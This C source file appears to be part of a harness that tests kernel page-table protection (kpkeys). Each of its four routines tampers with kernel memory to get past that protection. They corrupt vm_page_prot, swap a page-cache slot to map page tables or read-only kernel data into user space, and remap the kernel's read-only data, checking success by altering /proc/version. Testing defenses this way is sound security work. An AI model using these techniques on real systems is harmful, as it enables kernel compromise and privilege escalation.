// SPDX-License-Identifier: GPL-2.0-only
/*
 * What the kernel maps into user space: pointers and bits from which it makes
 * last-level entries. The attacker has it map one of its own page tables.
 *
 * Judged, and left out:
 *  - vm_pgoff: drivers make page frames of it when memory is mapped, as /dev/mem
 *    does, and these kernels have no such driver. In a file mapping it selects
 *    another page of the file.
 *  - zero_pfn and pages that are mapped in order to be read: reading page tables
 *    gives nothing to who can read all of memory.
 *  - Pages in pipes and in buffers of read() and write(): the kernel copies
 *    through the linear map, where page tables have their pkey.
 */
#include "attack.h"

#include <sys/syscall.h>

#define X86_IMAGE	0xffffffff80000000	/* where physical address phys_base is mapped */
#define NR_RANGES	1024
#define FILE_PARTS	32	/* each as large as what a table maps */

static int file_of(size_t size)
{
	int fd = syscall(SYS_memfd_create, "attack", 0);

	if (fd < 0 || ftruncate(fd, size))
		die("cannot make a file");
	return fd;
}

static char *map_file(int fd, void *addr, size_t size, off_t offset, int flags)
{
	char *mem = mmap(addr, size, PROT_READ | PROT_WRITE, MAP_SHARED | flags, fd, offset);

	if (mem == MAP_FAILED || madvise(mem, size, MADV_DONTFORK))
		die("cannot map a file");
	return mem;
}

/*
 * The entry is made of the page's address or'ed with vm_page_prot: with bits of
 * an address in there it is another page's. There is choice: any page of a file,
 * and any table that can map it.
 */
static int page_prot(void)
{
	unsigned long nr = PMD_SIZE / PAGE_SIZE, total = FILE_PARTS * nr, j;
	int fd = file_of(total * PAGE_SIZE);
	char *ranges[NR_RANGES], *range, *at;
	u64 *frames = NULL, table, prot, old;
	struct kpkeys_attack_leak l = {};
	unsigned int i;

	/*
	 * Some machines hand memory out from the bottom, some from the top; tables are
	 * wanted where addresses have more bits.
	 */
	for (i = 0; i < NR_RANGES; i++) {
		if (i == NR_RANGES / 4)
			frames = frames_of(map_file(fd, NULL, total * PAGE_SIZE, 0,
						    MAP_POPULATE), total);
		ranges[i] = table_range(i);
		/* The table stays for its last page. */
		ranges[i][(nr - 1) * PAGE_SIZE] = 1;
		munmap(ranges[i], (nr - 1) * PAGE_SIZE);
	}
	for (i = 0; i < NR_RANGES; i++) {
		range = ranges[i];
		table = (table_of(range, 1) - leak.linear_offset) / PAGE_SIZE;
		for (j = 0; j < total; j++)
			if (!(frames[j] & ~table) && j % nr < nr - 2)
				goto found;
	}
	return not_possible("no page with an address that is part of a page table's");

found:
	map_file(fd, range, (nr - 1) * PAGE_SIZE, j / nr * PMD_SIZE, MAP_FIXED_NOREPLACE);
	at = range + j % nr * PAGE_SIZE;
	get_leak(&l, at);
	prot = l.vma + lookup("vm_area_struct.vm_page_prot");
	old = kernel_read(prot);
	kernel_write(prot, old | table * PAGE_SIZE);
	madvise(at, PAGE_SIZE, MADV_POPULATE_WRITE);
	if (kernel_address(kernel_read(entry_slot(leak.pgd, at, 1))) != table_of(range, 1))
		return GAINED_NOTHING;
	steal_with_table((u64 *)at, range);

	((volatile u64 *)at)[j % nr] = leaf(frames[j] * PAGE_SIZE + leak.linear_offset);
	flush();
	restore(prot, old);
	return DONE;
}

#define NR_WORDS	8	/* of a struct page */

/* The only page of a file, in the page cache. */
struct cached_page {
	char *at;		/* where the file is mapped */
	u64 slot;		/* of the page cache */
	u64 page;		/* struct page of the page to put there */
	u64 old_page;
	u64 words[NR_WORDS];	/* what @page was */
};

static int populate(void *at)
{
	return madvise(at, PAGE_SIZE, MADV_POPULATE_WRITE);
}

/* Has the kernel map @page, an ordinary one or not, at @at. */
static void map_cached(struct cached_page *c, u64 page, char *at)
{
	struct kpkeys_attack_leak l = {};
	int fd = file_of(PAGE_SIZE);
	unsigned int i;
	u64 mapping;

	if (pwrite(fd, "x", 1, 0) != 1)
		die("cannot write to a file");
	c->at = map_file(fd, at, PAGE_SIZE, 0, at ? MAP_FIXED_NOREPLACE : 0);

	get_leak(&l, c->at);
	mapping = kernel_read(kernel_read(l.vma + lookup("vm_area_struct.vm_file")) +
			      lookup("file.f_mapping"));
	c->slot = mapping + lookup("address_space.i_pages.xa_head");
	c->old_page = kernel_read(c->slot);
	c->page = page;
	for (i = 0; i < NR_WORDS; i++)
		c->words[i] = kernel_read(page + 8 * i);

	kernel_write(page + lookup("page.mapping"), mapping);
	kernel_write(page + lookup("page.flags"), kernel_read(page + lookup("page.flags")) |
		     1ULL << lookup("PG_uptodate"));
	kernel_write(c->slot, page);

	/* By one who may be killed: what was written has to be put back. */
	ended_well(start(populate, c->at));
}

static bool is_mapped(const struct cached_page *c, u64 kernel_addr)
{
	u64 slot = entry_slot(leak.pgd, c->at, 1);
	u64 entry = slot ? kernel_read(slot) : 0;

	return entry & 1 && kernel_address(entry) == kernel_addr;
}

static void unmap_cached(const struct cached_page *c)
{
	unsigned int i;

	restore(c->slot, c->old_page);
	for (i = 0; i < NR_WORDS; i++)
		restore(c->page + 8 * i, c->words[i]);
}

/* A file's only page is one of the attacker's page tables. */
static int page_cache(void)
{
	char *range = private_range(0), *at = range + 5 * PAGE_SIZE;
	struct cached_page c;

	range[0] = 1;
	munmap(at, PAGE_SIZE);
	map_cached(&c, struct_page(table_of(range, 1)), at);
	if (is_mapped(&c, table_of(range, 1))) {
		steal_with_table((u64 *)at, range);
		((volatile u64 *)at)[5] = empty_entry();
		flush();
	}
	unmap_cached(&c);
	return DONE;
}

/* A file's only page is one of the kernel's, which nobody can write to: /proc/version. */
static int page_cache_image(void)
{
	u64 text, page;
	struct cached_page c;
	char version[2] = "";
	char *letter;
	int fd;

	text = lookup("linux_proc_banner") + leak.linear_offset;
	if (on_arch("arm64"))
		text -= kernel_read(lookup("kimage_voffset"));
	else if (on_arch("x86_64"))
		text += kernel_read(lookup("phys_base")) - X86_IMAGE;
	else
		return not_possible("the kernel is not in the memory that it manages");
	page = text & ~(u64)(PAGE_SIZE - 1);
	map_cached(&c, struct_page(page), NULL);
	if (is_mapped(&c, page)) {
		letter = c.at + text % PAGE_SIZE;
		(*letter)++;
		fd = open("/proc/version", O_RDONLY);
		if (read(fd, version, 1) == 1)
			shared->victim_lost = version[0] == *letter;
		close(fd);
		(*letter)--;
		/* The kernel must not free it. */
		restore(entry_slot(leak.pgd, c.at, 1), empty_entry());
		flush();
	}
	unmap_cached(&c);
	return DONE;
}

/* Whether an entry of level 2 maps a block. */
static bool is_block(u64 entry)
{
	return on_arch("x86_64") ? entry & 0x80 : (entry & 3) == 1;
}

/* A copy of the memory that an entry of the kernel's maps. Returns where it is in the linear map. */
static u64 copy_of(u64 from, size_t size, char **copy)
{
	char *mem = mmap(NULL, 2 * PMD_SIZE, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	u64 entry;
	size_t i;

	if (mem == MAP_FAILED)
		die("no memory");
	mem = (char *)(((uintptr_t)mem + PMD_SIZE - 1) & ~(PMD_SIZE - 1));
	madvise(mem, PMD_SIZE, size > PAGE_SIZE ? MADV_HUGEPAGE : MADV_NOHUGEPAGE);
	for (i = 0; i < size; i += 8)
		*(u64 *)(mem + i) = kernel_read(from + i);
	*copy = mem;
	if (size == PAGE_SIZE)
		return address_of(mem);
	entry = kernel_read(entry_slot(leak.pgd, mem, 2));
	return is_block(entry) ? kernel_address(entry) & ~(u64)(size - 1) : 0;
}

/* The kernel finds other memory where it has its read-only data. */
static int image_elsewhere(void)
{
	u64 addr, root, slot, entry, from, to;
	char *copy, old = 0, new = 0;
	unsigned int level = 2;
	size_t size = PMD_SIZE;
	int fd;

	if (!on_arch("arm64") && !on_arch("x86_64"))
		return not_possible("page tables do not map the kernel");
	addr = lookup("linux_proc_banner");
	if (!try_lookup("init_top_pgt", &root))
		root = lookup("swapper_pg_dir");
	slot = entry_slot(root, (void *)addr, level);
	entry = kernel_read(slot);
	if (!is_block(entry)) {
		level = 1;
		size = PAGE_SIZE;
		slot = entry_slot(root, (void *)addr, level);
		entry = kernel_read(slot);
	}
	from = kernel_address(entry) & ~(u64)(size - 1);
	to = copy_of(from, size, &copy);
	if (!to)
		return not_possible("no large page");

	fd = open("/proc/version", O_RDONLY);
	if (pread(fd, &old, 1, 0) != 1)
		die("cannot read /proc/version");
	close(fd);
	copy[addr & (size - 1)] = old + 1;
	call_setter(slot, entry - from + to, addr & ~(u64)(size - 1), level);
	fd = open("/proc/version", O_RDONLY);
	if (read(fd, &new, 1) == 1)
		shared->victim_lost = new == old + 1;
	call_setter(slot, entry, addr & ~(u64)(size - 1), level);
	close(fd);
	return DONE;
}

const struct attack mappings[] = {
	{ "vm-page-prot", "vma->vm_page_prot: bits of an address", page_prot },
	{ "page-cache", "a slot of the page cache, and a table's struct page", page_cache },
	{ "page-cache-image", "a slot of the page cache, and the struct page of read-only data",
	  page_cache_image },
	{ "image-elsewhere", "what a setter writes: other memory, for read-only data of the kernel",
	  image_elsewhere },
	{ }
};
